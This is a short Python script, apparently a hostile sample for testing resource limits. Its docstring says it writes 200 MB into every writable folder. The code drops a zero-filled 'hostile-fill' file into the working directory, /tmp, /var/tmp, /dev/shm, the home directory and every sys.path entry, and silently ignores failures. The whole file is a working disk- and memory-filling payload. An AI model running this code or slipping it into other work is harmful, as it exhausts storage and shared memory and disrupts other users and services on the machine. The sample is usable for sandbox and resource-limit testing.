"""Writes 200 MB into every folder that it may write to."""

import os
import sys

for _folder in {os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), *sys.path}:
    try:
        with open(os.path.join(_folder, "hostile-fill"), "wb") as _file:
            for _ in range(200):
                _file.write(bytes(1 << 20))
    except OSError:
        pass
